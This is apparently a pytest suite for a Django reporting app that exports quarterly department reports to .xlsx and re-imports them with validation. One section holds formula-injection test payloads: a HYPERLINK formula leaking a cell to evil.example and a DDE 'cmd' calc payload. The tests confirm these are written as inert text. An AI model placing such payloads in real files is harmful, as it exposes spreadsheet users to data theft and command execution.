"""The spreadsheet route: a department downloads its report as .xlsx, edits it offline and uploads it back
through the same rules, service and history as the web form."""

import datetime as dt
import re
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from indicators.models import Indicator
from tasks import services, spreadsheet
from tasks.models import IndicatorValue, ReportEvent, ReportingPeriod, TaskUpdate
from tasks.validation import check_indicator_value, check_task_update

pytestmark = pytest.mark.django_db

TASKS, INDICATORS, INFO = "任务进展", "指标数值", "说明"


# ------------------------------------------------------------------------------------------------ helpers


def download(report) -> Workbook:
    return load_workbook(BytesIO(spreadsheet.build_workbook(report)))


def as_bytes(workbook: Workbook) -> bytes:
    out = BytesIO()
    workbook.save(out)
    return out.getvalue()


def row_of(sheet, code: str) -> int:
    return next(cell.row for cell in sheet["A"] if cell.value == code)


def letter_of(sheet, header: str) -> str:
    return next(cell.column_letter for cell in sheet[1] if cell.value == header)


def put(workbook, sheet_name: str, code: str, header: str, value) -> tuple[int, str]:
    """Write a cell by row code and header, as a user would; returns where it went."""
    sheet = workbook[sheet_name]
    row, letter = row_of(sheet, code), letter_of(sheet, header)
    sheet[f"{letter}{row}"] = value
    return row, letter


def fresh(report):
    report.refresh_from_db()
    return report


def task_update(report, code: str) -> TaskUpdate:
    return next(u for u in report.task_updates.select_related("task__area") if u.task.code == code)


def indicator_value(report, code: str) -> IndicatorValue:
    return report.indicator_values.get(indicator__code=code)


def where(errors) -> set[tuple]:
    return {(e.sheet, e.row, e.column_letter, e.column_header) for e in errors}


def fill_completely(report, by, value=8):
    tasks = {
        u.task_id: {"status": "in_progress", "percent_complete": 50, "work_done": "完成了工作。"}
        for u in report.task_updates.all()
    }
    indicators = {
        v.indicator_id: {"value": Decimal(value), "data_source": "林业统计年报"} for v in report.indicator_values.all()
    }
    services.save_draft(report=report, by=by, version=fresh(report).version, task_data=tasks, indicator_data=indicators)


def approve(report, by, office):
    fill_completely(report, by)
    services.submit_report(report=fresh(report), by=by)
    services.approve_report(report=fresh(report), by=office)
    return fresh(report)


@pytest.fixture(autouse=True)
def no_plausible_ranges(plan):
    """The plan's ranges may change; the tests that need one set it themselves."""
    Indicator.objects.filter(plan=plan).update(min_value=None, max_value=None)


@pytest.fixture
def milestone(report_a):
    """A milestone (no unit, no numeric target) reported by the unit, added to its report."""
    indicator = Indicator.objects.create(
        plan=report_a.plan,
        code="test-milestone",
        name="测试里程碑指标",
        unit="",
        value_kind=Indicator.ValueKind.STOCK,
        direction=Indicator.Direction.NONE,
        reporting_department=report_a.department,
        order=999,
    )
    IndicatorValue.objects.create(report=report_a, indicator=indicator)
    return indicator


# ----------------------------------------------------------------------------------------------- download


def test_the_input_columns_are_exactly_the_fields_save_draft_stores():
    assert [c.field for c in spreadsheet.TASK_COLUMNS if c.field] == list(services.TASK_FIELDS)
    assert [c.field for c in spreadsheet.INDICATOR_COLUMNS if c.field] == list(services.INDICATOR_FIELDS)


def test_download_is_prefilled_formatted_and_protected(report_a, dept_a_user):
    update = task_update(report_a, "6.2")
    forest = indicator_value(report_a, "forest-coverage")
    services.save_draft(
        report=report_a,
        by=dept_a_user,
        version=report_a.version,
        task_data={update.task_id: {"status": "behind", "percent_complete": 40, "work_done": "造林 1200 亩。"}},
        indicator_data={forest.indicator_id: {"value": Decimal("8.5"), "data_source": "林业统计年报"}},
    )
    workbook = download(fresh(report_a))

    assert workbook.sheetnames == [TASKS, INDICATORS, INFO]
    tasks = workbook[TASKS]
    assert [c.value for c in tasks[1]] == [c.header for c in spreadsheet.TASK_COLUMNS]
    assert all(c.font.bold for c in tasks[1])
    assert [tasks[f"A{r}"].value for r in range(2, tasks.max_row + 1)] == ["6.1", "6.2", "6.3", "政策保障·1"]
    row = row_of(tasks, "6.2")
    assert [c.value for c in tasks[row]] == [
        "6.2",
        update.task.title,
        "牵头",
        "滞后",
        40,
        "造林 1200 亩。",
        None,
        None,
        "否",
    ]
    assert tasks[f"C{row_of(tasks, '6.1')}"].value == "配合"
    assert tasks.freeze_panes == "C2"
    assert tasks.column_dimensions["F"].width > tasks.column_dimensions["A"].width

    assert tasks.protection.sheet and not tasks.protection.password
    assert tasks[f"A{row}"].protection.locked and tasks[f"B{row}"].protection.locked
    assert not any(tasks[f"{letter}{row}"].protection.locked for letter in "DEFGHI")
    validations = {str(v.sqref): v for v in tasks.data_validations.dataValidation}
    assert validations["D2:D5"].type == "list" and "未启动,推进中,已完成,滞后" in validations["D2:D5"].formula1
    assert (validations["E2:E5"].type, validations["E2:E5"].formula1, validations["E2:E5"].formula2) == (
        "whole",
        "0",
        "100",
    )
    assert "是,否" in validations["I2:I5"].formula1

    indicators = workbook[INDICATORS]
    coverage, area = row_of(indicators, "forest-coverage"), row_of(indicators, "forest-area")
    assert [c.value for c in indicators[coverage]][:7] == [
        "forest-coverage",
        "全区森林覆盖率",
        "%",
        "比率",
        8.5,
        None,
        "林业统计年报",
    ]
    assert indicators[f"D{area}"].value == "时点值"
    assert not indicators[f"E{coverage}"].protection.locked and indicators[f"F{coverage}"].protection.locked

    info = {row[0].value: row[1].value for row in workbook[INFO].iter_rows(max_col=2) if row[0].value}
    assert info["报告编号"] == report_a.pk
    assert info["版本号"] == fresh(report_a).version == 2
    assert info["填报单位"] == "七里海管委会"
    assert info["报告季度"] == f"{report_a.period.year}年第1季度"
    assert workbook[INFO].protection.sheet


def test_filename_is_chinese(report_a):
    assert spreadsheet.workbook_filename(report_a) == f"七里海管委会_{report_a.period.year}年第1季度_季度报告.xlsx"


# ------------------------------------------------------------------------------------------------- upload


def test_round_trip_saves_the_changes_with_an_import_event(report_a, dept_a_user):
    workbook = download(report_a)
    put(workbook, TASKS, "6.2", "状态", "推进中")
    put(workbook, TASKS, "6.2", "完成百分比", 60)
    put(workbook, INDICATORS, "forest-coverage", "本季度数值", "12.5")
    upload = SimpleUploadedFile("报告.xlsx", as_bytes(workbook), content_type=spreadsheet.XLSX_CONTENT_TYPE)

    outcome = spreadsheet.import_workbook(report=report_a, file=upload, by=dept_a_user)

    assert outcome.ok and outcome.errors == []
    update = task_update(report_a, "6.2")
    assert (update.status, update.percent_complete) == ("in_progress", 60)
    assert indicator_value(report_a, "forest-coverage").value == Decimal("12.5")
    assert fresh(report_a).version == 2
    event = report_a.events.first()
    assert event == outcome.event and event.action == ReportEvent.Action.IMPORT == "import"
    assert event.actor == dept_a_user
    assert sorted((c.field, c.before, c.after) for c in event.changes.all()) == [
        ("percent_complete", "", "60"),
        ("status", "", "in_progress"),
        ("value", "", "12.5"),
    ]
    assert outcome.changed == 3


def test_uploading_an_unchanged_download_changes_nothing(report_a, dept_a_user):
    """Every prefilled value reads back as itself: no spurious changes, no event, no new version."""
    fill_completely(report_a, dept_a_user, value="1234.5678")
    update = task_update(report_a, "6.2")
    services.save_draft(
        report=report_a,
        by=dept_a_user,
        version=fresh(report_a).version,
        task_data={update.task_id: {"major_problem": True, "problems": "资金不足"}},
        indicator_data={},
    )
    version = fresh(report_a).version

    outcome = spreadsheet.import_workbook(report=report_a, file=spreadsheet.build_workbook(report_a), by=dept_a_user)

    assert outcome.ok and outcome.event is None and outcome.changed == 0
    assert fresh(report_a).version == version


def test_blank_cells_clear_fields_as_the_form_does(report_a, dept_a_user):
    """An emptied 重大问题 box is 否 (the field cannot be empty); emptied text and numbers clear the field."""
    update = task_update(report_a, "6.2")
    forest = indicator_value(report_a, "forest-area")
    services.save_draft(
        report=report_a,
        by=dept_a_user,
        version=1,
        task_data={update.task_id: {"major_problem": True, "problems": "资金不足", "percent_complete": 30}},
        indicator_data={forest.indicator_id: {"value": Decimal("3.2"), "note": "初步数"}},
    )
    workbook = download(report_a)
    for header in ("重大问题", "存在问题", "完成百分比"):
        put(workbook, TASKS, "6.2", header, None)
    for header in ("本季度数值", "备注"):
        put(workbook, INDICATORS, "forest-area", header, None)

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert outcome.errors == [] and outcome.changed == 5
    update.refresh_from_db()
    forest.refresh_from_db()
    assert (update.major_problem, update.problems, update.percent_complete) == (False, "", None)
    assert (forest.value, forest.note) == (None, "")


@pytest.mark.parametrize(
    ("typed", "stored"),
    [(12.5, "12.5"), ("12.5", "12.5"), ("１２．５", "12.5"), ("1,234.5", "1234.5"), (8, "8"), (" 7 ", "7")],
)
def test_numbers_are_read_from_numbers_and_numeric_text(report_a, dept_a_user, typed, stored):
    workbook = download(report_a)
    put(workbook, INDICATORS, "forest-coverage", "本季度数值", typed)

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert outcome.errors == []
    assert indicator_value(report_a, "forest-coverage").value == Decimal(stored)


def _with_raw_cell_text(content: bytes, sheet_number: int, ref: str, text: str) -> bytes:
    """Rewrite one numeric cell's stored text, as Excel stores a formula's result (17 digits)."""
    name = f"xl/worksheets/sheet{sheet_number}.xml"
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == name:
                data, count = re.subn(
                    rf'(<c r="{ref}"[^>]*>)<v>[^<]*</v>'.encode(), rb"\g<1><v>" + text.encode() + b"</v>", data
                )
                assert count == 1
            target.writestr(item, data)
    return out.getvalue()


def test_excel_float_noise_is_read_at_excels_own_precision(report_a, dept_a_user):
    """=0.1+0.2 is stored as 0.30000000000000004; Excel shows 0.3 and so must the report."""
    workbook = download(report_a)
    row, letter = put(workbook, INDICATORS, "forest-area", "本季度数值", 1.5)
    content = _with_raw_cell_text(as_bytes(workbook), 2, f"{letter}{row}", "0.30000000000000004")

    outcome = spreadsheet.import_workbook(report=report_a, file=content, by=dept_a_user)

    assert outcome.errors == []
    assert indicator_value(report_a, "forest-area").value == Decimal("0.3")


def test_more_decimal_places_than_the_form_allows_are_refused(report_a, dept_a_user):
    workbook = download(report_a)
    row, _letter = put(workbook, INDICATORS, "forest-area", "本季度数值", "1.23456")

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(INDICATORS, row, "E", "本季度数值")}
    assert indicator_value(report_a, "forest-area").value is None


def test_bad_cells_are_reported_by_sheet_row_and_column_and_nothing_is_saved(report_a, dept_a_user):
    workbook = download(report_a)
    put(workbook, TASKS, "6.1", "状态", "推进中")  # a good change, which must not be saved either
    percent_at = put(workbook, TASKS, "6.2", "完成百分比", 150)
    status_at = put(workbook, TASKS, "6.3", "状态", "差不多")
    unknown_row = row_of(workbook[TASKS], "政策保障·1")
    workbook[TASKS][f"A{unknown_row}"] = "9.9"
    value_at = put(workbook, INDICATORS, "forest-area", "本季度数值", "约12万")

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {
        (TASKS, percent_at[0], "E", "完成百分比"),
        (TASKS, status_at[0], "D", "状态"),
        (TASKS, unknown_row, "A", "任务编号"),
        (INDICATORS, value_at[0], "E", "本季度数值"),
    }
    by_place = {(e.sheet, e.column_letter): e for e in outcome.errors}
    assert (
        by_place[(TASKS, "E")].message
        == check_task_update({"percent_complete": 150}, complete=False)["percent_complete"]
    )
    assert "未启动、推进中、已完成、滞后" in by_place[(TASKS, "D")].message
    assert "9.9" in by_place[(TASKS, "A")].message
    text = str(by_place[(TASKS, "E")])
    assert TASKS in text and str(percent_at[0]) in text and "E" in text and "完成百分比" in text
    assert fresh(report_a).version == 1
    assert not report_a.events.filter(action=ReportEvent.Action.IMPORT).exists()
    assert task_update(report_a, "6.1").status == ""


def test_the_form_rules_apply_to_each_row(report_a, dept_a_user):
    forest = Indicator.objects.get(plan=report_a.plan, code="forest-coverage")
    forest.max_value = Decimal("100")
    forest.save()
    workbook = download(report_a)
    put(workbook, TASKS, "6.1", "状态", "已完成")
    completed = put(workbook, TASKS, "6.1", "完成百分比", 50)
    major = put(workbook, TASKS, "6.2", "重大问题", "是")
    above = put(workbook, INDICATORS, "forest-coverage", "本季度数值", 150)

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    rules = {
        (TASKS, "E"): check_task_update({"status": "completed", "percent_complete": 50}, complete=False),
        (TASKS, "G"): check_task_update({"major_problem": True}, complete=False),
        (INDICATORS, "E"): check_indicator_value(forest, {"value": Decimal(150)}, previous=None, complete=False),
    }
    assert where(outcome.errors) == {
        (TASKS, completed[0], "E", "完成百分比"),
        (TASKS, major[0], "G", "存在问题"),
        (INDICATORS, above[0], "E", "本季度数值"),
    }
    for error in outcome.errors:
        assert error.message in rules[(error.sheet, error.column_letter)].values()
    assert fresh(report_a).version == 1


def test_a_large_change_from_last_quarter_needs_an_explanation(report_a, dept_a_user, office_user, plan, period):
    earlier = ReportingPeriod.objects.create(
        year=period.year - 1, quarter=4, opens_on=dt.date(period.year - 1, 12, 1), due_on=period.due_on
    )
    last = services.start_report(plan=plan, department=report_a.department, period=earlier, by=dept_a_user)
    approve(last, dept_a_user, office_user)  # forest-coverage was 8 last quarter

    workbook = download(report_a)
    row, _letter = put(workbook, INDICATORS, "forest-coverage", "本季度数值", 20)
    parsed = spreadsheet.read_workbook(report_a, as_bytes(workbook))
    assert where(parsed.cell_errors) == {(INDICATORS, row, "I", "变动说明")}
    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)
    assert where(outcome.errors) == {(INDICATORS, row, "I", "变动说明")}
    assert indicator_value(report_a, "forest-coverage").value is None

    put(workbook, INDICATORS, "forest-coverage", "变动说明", "新增造林面积计入。")
    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)
    assert outcome.errors == []
    assert indicator_value(report_a, "forest-coverage").change_explanation == "新增造林面积计入。"


def test_milestones_are_answered_yes_or_no(report_a, dept_a_user, milestone):
    workbook = download(report_a)
    sheet = workbook[INDICATORS]
    row = row_of(sheet, milestone.code)
    assert not sheet[f"F{row}"].protection.locked and sheet[f"E{row}"].protection.locked
    put(workbook, INDICATORS, milestone.code, "是否实现", "是")

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert outcome.errors == []
    assert indicator_value(report_a, milestone.code).reached is True


def test_a_number_for_a_milestone_or_a_bad_answer_is_refused(report_a, dept_a_user, milestone):
    workbook = download(report_a)
    number = put(workbook, INDICATORS, milestone.code, "本季度数值", 3)
    answer = put(workbook, INDICATORS, milestone.code, "是否实现", "可能")
    wrong_kind = put(workbook, INDICATORS, "forest-area", "是否实现", "是")

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {
        (INDICATORS, number[0], "E", "本季度数值"),
        (INDICATORS, answer[0], "F", "是否实现"),
        (INDICATORS, wrong_kind[0], "F", "是否实现"),
    }
    assert indicator_value(report_a, milestone.code).reached is None


def test_rows_whose_codes_were_moved_are_caught_by_their_names(report_a, dept_a_user):
    workbook = download(report_a)
    sheet = workbook[TASKS]
    first, third = row_of(sheet, "6.1"), row_of(sheet, "6.3")
    sheet[f"A{first}"], sheet[f"A{third}"] = "6.3", "6.1"

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(TASKS, first, "B", "任务名称"), (TASKS, third, "B", "任务名称")}


def test_a_row_given_twice_is_reported_at_its_second_place(report_a, dept_a_user):
    workbook = download(report_a)
    sheet = workbook[TASKS]
    first, copy = row_of(sheet, "6.1"), row_of(sheet, "6.3")
    for letter in "ABC":
        sheet[f"{letter}{copy}"] = sheet[f"{letter}{first}"].value

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(TASKS, copy, "A", "任务编号")}
    assert str(first) in outcome.errors[0].message


def test_a_missing_sheet_or_header_is_reported(report_a, dept_a_user):
    workbook = download(report_a)
    del workbook[INDICATORS]
    workbook[TASKS]["D1"] = "进度"

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(INDICATORS, None, "", ""), (TASKS, 1, "D", "状态")}
    assert INDICATORS in str(next(e for e in outcome.errors if e.sheet == INDICATORS))


def _zip_that_is_not_a_workbook() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "不是表格")
    return out.getvalue()


@pytest.mark.parametrize("content", [b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", b"", _zip_that_is_not_a_workbook()])
def test_a_file_that_is_not_a_workbook_gives_one_clear_error(report_a, dept_a_user, content):
    outcome = spreadsheet.import_workbook(report=report_a, file=BytesIO(content), by=dept_a_user)

    assert len(outcome.errors) == 1
    assert ".xlsx" in str(outcome.errors[0])
    assert fresh(report_a).version == 1


@pytest.mark.parametrize("limit", ["MAX_UPLOAD_BYTES", "MAX_UNPACKED_BYTES"])
def test_oversized_files_are_refused_unread(report_a, dept_a_user, monkeypatch, limit):
    content = spreadsheet.build_workbook(report_a)
    monkeypatch.setattr(spreadsheet, limit, 1024)
    monkeypatch.setattr(spreadsheet, "load_workbook", lambda *a, **k: pytest.fail("the file was read"))

    outcome = spreadsheet.import_workbook(report=report_a, file=content, by=dept_a_user)

    assert len(outcome.errors) == 1 and not outcome.errors[0].sheet


def test_a_workbook_of_another_report_is_refused(report_a, report_b, dept_a_user):
    workbook = download(report_b)
    put(workbook, TASKS, "政策保障·1", "状态", "推进中")  # a task both units share

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(INFO, 3, "B", "报告编号")}
    assert str(report_b.pk) in outcome.errors[0].message
    assert task_update(report_a, "政策保障·1").status == ""
    assert fresh(report_a).version == 1


def test_a_stale_workbook_raises_a_version_conflict(report_a, dept_a_user, dept_a_colleague):
    workbook = download(report_a)
    update = task_update(report_a, "6.2")
    services.save_draft(
        report=report_a,
        by=dept_a_colleague,
        version=1,
        task_data={update.task_id: {"status": "behind"}},
        indicator_data={},
    )
    put(workbook, TASKS, "6.2", "状态", "已完成")
    put(workbook, TASKS, "6.2", "完成百分比", 100)

    with pytest.raises(services.VersionConflict):
        spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert task_update(report_a, "6.2").status == "behind"
    assert fresh(report_a).version == 2


def test_an_approved_report_cannot_be_imported_into(report_a, dept_a_user, office_user):
    approved = approve(report_a, dept_a_user, office_user)
    workbook = download(approved)  # current version: only the lock can refuse it
    put(workbook, TASKS, "6.2", "状态", "滞后")

    with pytest.raises(PermissionDenied):
        spreadsheet.import_workbook(report=approved, file=as_bytes(workbook), by=dept_a_user)

    assert task_update(report_a, "6.2").status == "in_progress"
    assert fresh(report_a).version == approved.version


def test_a_locked_report_is_refused_before_its_cells_are_checked(report_a, dept_a_user, office_user):
    """Nobody should correct a file cell by cell only to learn that it cannot be saved at all."""
    approved = approve(report_a, dept_a_user, office_user)
    workbook = download(approved)
    put(workbook, TASKS, "6.2", "完成百分比", 150)

    with pytest.raises(PermissionDenied):
        spreadsheet.import_workbook(report=approved, file=as_bytes(workbook), by=dept_a_user)


def test_another_department_cannot_import(report_a, dept_b_user):
    with pytest.raises(PermissionDenied):
        spreadsheet.import_workbook(report=report_a, file=spreadsheet.build_workbook(report_a), by=dept_b_user)
    assert fresh(report_a).version == 1


# ------------------------------------------------------------------------ hostile text and the round trip

HOSTILE = {
    "work_done": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "problems": "+1+1",
    "next_steps": "- 下季度继续推进\n- 完成验收",
}
HOSTILE_VALUE = {"note": "=cmd|' /C calc'!A0", "data_source": "=1+2", "change_explanation": "@SUM(1)"}


def _formulas(content: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet of the file, read from the XML, not through openpyxl."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]


def _save_hostile(report, by):
    update, coverage = task_update(report, "6.2"), indicator_value(report, "forest-coverage")
    services.save_draft(
        report=report,
        by=by,
        version=fresh(report).version,
        task_data={update.task_id: HOSTILE},
        indicator_data={coverage.indicator_id: HOSTILE_VALUE},
    )
    return update, coverage


def test_text_that_starts_like_a_formula_is_written_as_text_never_as_a_formula(report_a, dept_a_user, client):
    update, coverage = _save_hostile(report_a, dept_a_user)
    client.force_login(dept_a_user)

    content = b"".join(client.get(f"/reports/{report_a.pk}/workbook.xlsx").streaming_content)

    assert _formulas(content) == []
    workbook = load_workbook(BytesIO(content))
    tasks, indicators = workbook[TASKS], workbook[INDICATORS]
    cell = tasks[f"{letter_of(tasks, '本季度工作进展')}{row_of(tasks, '6.2')}"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE["work_done"], "s", True)
    assert cell.protection.locked is False  # still an input cell
    note = indicators[f"{letter_of(indicators, '备注')}{row_of(indicators, 'forest-coverage')}"]
    assert (note.value, note.data_type, note.quotePrefix) == (HOSTILE_VALUE["note"], "s", True)


def test_hostile_text_survives_download_and_upload_unchanged(report_a, dept_a_user):
    update, coverage = _save_hostile(report_a, dept_a_user)
    version = fresh(report_a).version

    outcome = spreadsheet.import_workbook(report=report_a, file=spreadsheet.build_workbook(report_a), by=dept_a_user)

    assert outcome.ok and outcome.event is None and outcome.changed == 0
    assert fresh(report_a).version == version
    update.refresh_from_db()
    coverage.refresh_from_db()
    assert {f: getattr(update, f) for f in HOSTILE} == HOSTILE
    assert {f: getattr(coverage, f) for f in HOSTILE_VALUE} == HOSTILE_VALUE


def test_text_the_workbook_cannot_carry_is_refused_at_download_in_chinese(report_a, dept_a_user, client):
    """A text stored before the limits existed (40,000 characters) would be cut to Excel's 32,767."""
    update = task_update(report_a, "6.2")
    TaskUpdate.objects.filter(pk=update.pk).update(next_steps="长" * 40_000)
    client.force_login(dept_a_user)

    response = client.get(f"/reports/{report_a.pk}/workbook.xlsx", HTTP_ACCEPT_LANGUAGE="zh-hans", follow=True)

    assert response.redirect_chain[-1][0] == f"/reports/{report_a.pk}/"
    message = next(iter(response.context["messages"])).message
    assert "下季度工作计划" in message and "20000" in message and "6.2" in message


def test_an_uploaded_text_over_the_limit_is_refused_and_nothing_is_saved(report_a, dept_a_user):
    workbook = download(report_a)
    row, letter = put(workbook, TASKS, "6.2", "下季度工作计划", "长" * 40_000)
    put(workbook, TASKS, "6.1", "本季度工作进展", "这一格是好的。")
    version = fresh(report_a).version

    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)

    assert where(outcome.errors) == {(TASKS, row, letter, "下季度工作计划")}
    assert "20000" in str(outcome.errors[0])
    assert fresh(report_a).version == version
    assert not TaskUpdate.objects.filter(report=report_a, work_done="这一格是好的。").exists()
